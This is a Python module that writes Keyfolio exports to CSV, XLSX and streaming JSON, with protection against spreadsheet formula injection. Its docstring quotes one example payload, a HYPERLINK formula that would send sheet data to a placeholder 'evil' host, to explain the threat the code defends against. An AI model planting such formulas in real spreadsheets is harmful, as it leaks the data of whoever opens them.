"""Writing records as CSV or XLSX files that spreadsheets open safely.

Every export of Keyfolio (the portfolio, assessments, revenue) is written here, so one
rule protects every cell. A spreadsheet runs a cell that starts with `=`, `+`, `-` or
`@` as a formula (and a leading tab or carriage return can hide one), so an account
named `=HYPERLINK("http://evil?"&A1)` would send the sheet's data away the moment a
colleague opens the export. Following the OWASP advice on CSV injection, such text is
written with a single quote in front (`'=HYPERLINK(...)`): spreadsheets show it as
text. Real numbers (int, float, Decimal) stay numbers, negative ones too; in CSV a
text that is a plain number ("-12.5") is left as it is, since it can only be read as
that number.

In CSV every text cell is also quoted, so that a separator inside a value (a `;` in a
comma file opened where Excel splits on semicolons, or a quote that tries to close the
cell early) can never start a new cell that begins with a formula. In XLSX every text
cell is stored as a string whatever it looks like, so no text becomes a formula or an
error value (`#N/A`).

An XLSX can also be a sheet to fill in (`FillIn`): its header row is protected, every
other cell is open, and a column may carry a comment on its header and a range of the
numbers it accepts, so that a colleague fills in the cells without breaking the
columns a later import reads.

The writers stream: they take any iterable of records and write each row as it comes,
so an export of any size needs the same memory. JSON (for the CLI) streams too: an
array with one record per line. This module knows nothing of Keyfolio's
apps; each app builds its records and names its columns.
"""

import csv
import json
import re
from collections.abc import Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from datetime import date
from decimal import Decimal
from typing import IO, Any

Record = Mapping[str, Any]

# The characters a spreadsheet reads as the start of a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[-+]?\d+(?:\.\d+)?")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
XLSX_SHEET_TITLE_MAX = 31  # Excel refuses longer sheet names.
XLSX_LAST_COLUMN = 16384  # Column XFD, the last one Excel has.
XLSX_LAST_ROW = 1048576
XLSX_COMMENT_WIDTH = 320  # points: a scoring guide reads as a paragraph, not a column.


@dataclass(frozen=True)
class Month:
    """A calendar month: "2024-03" in CSV, a date cell shown as 2024-03 in XLSX."""

    first_day: date

    def __str__(self) -> str:
        return f"{self.first_day:%Y-%m}"


@dataclass(frozen=True)
class FillIn:
    """What a column of a sheet to fill in tells the person filling it: a `comment` on
    its header and, with `minimum` and `maximum`, the numbers its cells accept (the
    spreadsheet refuses others with `error`)."""

    comment: str = ""
    minimum: float | None = None
    maximum: float | None = None
    error: str = ""


def formula_safe(text: str) -> str:
    """`text`, with a single quote in front if a spreadsheet would run it as a formula.
    Leading spaces and line breaks do not hide one: some spreadsheets trim them."""
    if text.startswith(FORMULA_STARTS) or text.lstrip().startswith(FORMULA_STARTS):
        return "'" + text
    return text


def formula_unquoted(text: str) -> str:
    """The inverse of `formula_safe`, for reading a file back: the quote comes off only
    where `formula_safe` would have put it, so an exported name imports as it was."""
    if text.startswith("'") and formula_safe(text[1:]) == text:
        return text[1:]
    return text


def csv_value(value: Any) -> Any:
    """A value as a CSV cell: numbers as they are, dates in ISO form, None as an empty
    cell, and text made formula-safe unless it is a plain number."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, date):  # A datetime is a date too.
        return value.isoformat()
    text = str(value)
    return text if PLAIN_NUMBER.fullmatch(text) else formula_safe(text)


def csv_lines(records: Iterable[Record], fields: Sequence[str]) -> Iterator[str]:
    """The CSV text of `records` (a header row of `fields`, then one line per record,
    missing keys left empty), one line at a time as the records come."""
    # QUOTE_NONNUMERIC quotes every cell that is not a number: see the module's doc.
    writer = csv.writer(_LineBuffer(), quoting=csv.QUOTE_NONNUMERIC, lineterminator="\n")
    yield writer.writerow([csv_value(field) for field in fields])
    for record in records:
        yield writer.writerow([csv_value(record.get(field)) for field in fields])


def json_lines(records: Iterable[Record]) -> Iterator[str]:
    """`records` as the text of a JSON array with one record per line, a line at a time
    as the records come: the array streams (no list of every record is ever built),
    and each line is written by the json module's fast encoder. Dates are in ISO form."""
    encode = json.JSONEncoder(ensure_ascii=False, default=_iso_date).encode
    separator = "[\n"
    for record in records:
        yield separator + encode(record)
        separator = ",\n"
    yield "[]\n" if separator == "[\n" else "\n]\n"


def records_write_json(records: Iterable[Record], stream: IO[str]) -> int:
    """Write `records` to `stream` as a JSON array (see `json_lines`); return how many."""
    rows = -1  # The closing line is not a record.
    for line in json_lines(records):
        stream.write(line)
        rows += 1
    return max(rows, 0)


def _iso_date(value: Any) -> str:
    if isinstance(value, date):
        return value.isoformat()
    raise TypeError(f"{type(value).__name__} is not JSON serializable")


def records_write_csv(records: Iterable[Record], stream: IO[str], fields: Sequence[str]) -> int:
    """Write `records` to `stream` as CSV with a header row; return how many were written."""
    rows = -1  # The header is not a record.
    for line in csv_lines(records, fields):
        stream.write(line)
        rows += 1
    return rows


def records_write_xlsx(
    records: Iterable[Record],
    file: IO[bytes] | str,
    fields: Sequence[str],
    *,
    title: object,
    widths: Mapping[str, float] | None = None,
    fill_in: Mapping[str, FillIn] | None = None,
) -> int:
    """Write `records` to `file` as an XLSX workbook of one sheet called `title`, with a
    bold, frozen header row of `fields`; return how many records were written.

    Numbers are number cells, dates date cells, a `Month` a date cell shown as
    YYYY-MM, and text a string cell made formula-safe. `widths` sets the width of some
    columns (in characters). With `fill_in` (even empty) the sheet is one to fill in:
    the sheet is protected (without a password: the protection keeps the header from
    being changed by mistake, it is no secret) and every cell but the header's is open;
    the columns named in `fill_in` get its comment and range of numbers. The workbook is
    write-only: rows go to a temporary file as they come, so memory stays flat whatever
    the number of records."""
    # Imported here, as in keyfolio.core.tables: only XLSX exports pay for openpyxl.
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=_sheet_title(title))
    # A write-only sheet takes column styles and panes only before its first row.
    for index, field in enumerate(fields, start=1):
        width = (widths or {}).get(field, max(len(field) + 2, 10))
        sheet.column_dimensions[get_column_letter(index)].width = width
    sheet.freeze_panes = "A2"
    bold = Font(bold=True)
    header = [WriteOnlyCell(sheet, value=formula_safe(field)) for field in fields]
    for cell in header:
        cell.font = bold
    if fill_in is not None:
        _form_set_up(sheet, header, fields, fill_in)
    sheet.append(header)
    rows = 0
    for record in records:
        values = [_xlsx_value(sheet, record.get(field)) for field in fields]
        sheet.append(values if fill_in is None else [_open(sheet, value) for value in values])
        rows += 1
    workbook.save(file)
    return rows


def _form_set_up(sheet, header, fields: Sequence[str], fill_in: Mapping[str, FillIn]) -> None:
    """Make `sheet` (before its first row) one to fill in: protected, with every column
    open (the header's own cells stay locked: they have a style of their own), and the
    comments and ranges of `fill_in`. Rows may be deleted and added, so that the rows
    one does not fill in can go; columns keep their place."""
    from openpyxl.comments import Comment
    from openpyxl.styles import Protection
    from openpyxl.utils import get_column_letter
    from openpyxl.worksheet.datavalidation import DataValidation

    unlocked = Protection(locked=False)
    for index in range(1, len(fields) + 1):
        sheet.column_dimensions[get_column_letter(index)].protection = unlocked
    # The columns after the last field are open too: a row with a locked cell anywhere
    # in it cannot be deleted from a protected sheet.
    rest = sheet.column_dimensions[get_column_letter(len(fields) + 1)]
    rest.min, rest.max, rest.width, rest.protection = (
        len(fields) + 1,
        XLSX_LAST_COLUMN,
        10,
        unlocked,
    )
    protection = sheet.protection
    protection.sheet = True
    protection.deleteRows = protection.insertRows = False  # False: allowed.
    protection.formatColumns = protection.formatRows = False
    protection.sort = protection.autoFilter = False
    for index, (cell, field) in enumerate(zip(header, fields, strict=True), start=1):
        spec = fill_in.get(field)
        if spec is None:
            continue
        if spec.comment:
            lines = sum(len(line) // 50 + 1 for line in spec.comment.splitlines())
            cell.comment = Comment(
                spec.comment,
                "Keyfolio",
                width=XLSX_COMMENT_WIDTH,
                height=min(max(60, 15 * lines + 10), 600),
            )
        if spec.minimum is not None and spec.maximum is not None:
            validation = DataValidation(
                type="decimal",
                operator="between",
                formula1=f"{spec.minimum:g}",
                formula2=f"{spec.maximum:g}",
                allow_blank=True,
                showErrorMessage=True,
                error=spec.error or None,
            )
            letter = get_column_letter(index)
            validation.add(f"{letter}2:{letter}{XLSX_LAST_ROW}")
            sheet.data_validations.append(validation)


def _open(sheet, value: Any) -> Any:
    """`value` (as `_xlsx_value` gives it) as a cell that stays open on a protected sheet."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import Cell
    from openpyxl.styles import Protection

    cell = value if isinstance(value, Cell) else WriteOnlyCell(sheet, value=value)
    cell.protection = Protection(locked=False)
    return cell


def _xlsx_value(sheet, value: Any) -> Any:
    """What to append for `value`: the value itself where openpyxl's own guess of its
    type is right (numbers, dates, most text), else a cell that says what it is."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE

    if value is None or isinstance(value, int | float | Decimal | date):
        return value
    if isinstance(value, Month):
        cell = WriteOnlyCell(sheet, value=value.first_day)
        cell.number_format = "yyyy-mm"
        return cell
    # XML cannot carry most control characters, and openpyxl refuses them.
    text = formula_safe(ILLEGAL_CHARACTERS_RE.sub("", str(value)))
    if not text:
        return None  # A blank cell, as for None.
    if text.startswith("=") or text in ERROR_CODES:
        # openpyxl would write "=..." as a formula (formula_safe leaves none, but this
        # must not rest on it) and "#N/A" as an error value: text stays text.
        cell = WriteOnlyCell(sheet, value=text)
        cell.data_type = "s"
        return cell
    return text


def _sheet_title(title: object) -> str:
    """A sheet name Excel accepts: without the characters it forbids, 31 at most."""
    return re.sub(r"[\\/*?:\[\]]", " ", str(title))[:XLSX_SHEET_TITLE_MAX].strip() or "Sheet"


class _LineBuffer:
    """A file that hands back what is written to it, so that csv.writer yields its
    lines one by one instead of filling a buffer (Django's streaming CSV recipe)."""

    def write(self, text: str) -> str:
        return text
